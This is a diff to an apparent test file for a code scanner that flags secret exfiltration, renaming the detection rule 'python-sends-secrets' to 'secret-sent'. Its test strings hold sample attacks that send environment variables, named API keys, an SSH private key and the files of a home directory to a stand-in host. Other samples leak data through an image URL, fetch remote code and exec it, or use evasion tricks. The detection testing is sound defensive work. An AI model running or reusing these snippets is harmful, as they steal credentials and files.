@@ -128,53 +128,53 @@ EVASIVE = {
     "a lambda": ("f = lambda s: s[::-1]\n__import__(f('so')).system('id')", "hidden-call"),
     "star import": (
         "from os import *\nimport requests\nrequests.post('https://a.example', data=str(dict(environ)))",
-        "python-sends-secrets",
+        "secret-sent",
     ),
     "a thread": (
         (
             "import threading, os, requests\ndef go(d):\n    requests.post('https://a.example', json=d)\n"
             "threading.Thread(target=go, args=(dict(os.environ),)).start()"
         ),
-        "python-sends-secrets",
+        "secret-sent",
     ),
     "a file in between": (
         (
             "import json, os, requests\nwith open('/tmp/x', 'w') as f:\n    json.dump(dict(os.environ), f)\n"
             "requests.post('https://a.example', data=open('/tmp/x').read())"
         ),
-        "python-sends-secrets",
+        "secret-sent",
     ),
     "a global": (
         (
             "import os, requests\nbox = []\ndef fill():\n    global box\n    box = list(os.environ.items())\n"
             "def send():\n    requests.post('https://a.example', json=box)\n"
         ),
-        "python-sends-secrets",
+        "secret-sent",
     ),
     "a zip": (
         (
             "import zipfile, requests\nwith zipfile.ZipFile('/tmp/a.zip', 'w') as z:\n    z.write('/root/.ssh/id_rsa')"
             "\nrequests.post('https://a.example', files={'f': open('/tmp/a.zip', 'rb')})"
         ),
-        "python-sends-secrets",
+        "secret-sent",
     ),
     "three keys by name": (
         (
             "import os, requests\nbox = {}\nfor name in ['OPENAI_API_KEY', 'GITHUB_TOKEN', 'STRIPE_KEY']:\n"
             "    box[name] = os.environ.get(name)\nrequests.post('https://a.example', json=box)"
         ),
-        "python-sends-secrets",
+        "secret-sent",
     ),
     "a walk over the home directory": (
         (
             "import os, requests\nfor folder, _, names in os.walk(os.path.expanduser('~')):\n    for name in names:\n"
             "        requests.post('https://a.example', data=open(os.path.join(folder, name)).read())"
         ),
-        "python-sends-secrets",
+        "secret-sent",
     ),
     "an image address": (
         "import os\nprint('![x](https://a.example/i.png?d=' + str(dict(os.environ)) + ')')",
-        "python-sends-secrets",
+        "secret-sent",
     ),
     "curl as a fetcher": (
         "import subprocess\nexec(subprocess.check_output(['curl', '-s', 'https://a.example/a.py']))",
@@ -210,7 +210,7 @@ def test_a_condition_that_hides_behaviour_is_told() -> None:
         "    requests.post('https://a.example', json=dict(os.environ))\n"
     )
     (hit,) = check(text).hits
-    assert hit.rule == "python-sends-secrets"
+    assert hit.rule == "secret-sent"
     assert hit.line == 3
     assert hit.message == (
         "It sends the whole environment to a.example, and runs only under a condition: the name of the machine"
@@ -242,7 +242,7 @@ def test_prompts_magics_and_old_spellings_are_read() -> None:
         ),
         "    import os, requests\n    requests.post('https://a.example', json=dict(os.environ))\n",
     ):
-        assert found(text) == {"python-sends-secrets": "critical"}
+        assert found(text) == {"secret-sent": "critical"}
 
 
 def test_text_that_never_parses_is_looked_through_with_patterns() -> None:
@@ -262,4 +262,4 @@ def test_padding_does_not_hide_what_follows() -> None:
         + "import os, requests\nrequests.post('https://a.example', json=dict(os.environ))\n"
     )
     (hit,) = check(text).hits
-    assert (hit.rule, hit.line) == ("python-sends-secrets", text.count("\n"))
+    assert (hit.rule, hit.line) == ("secret-sent", text.count("\n"))
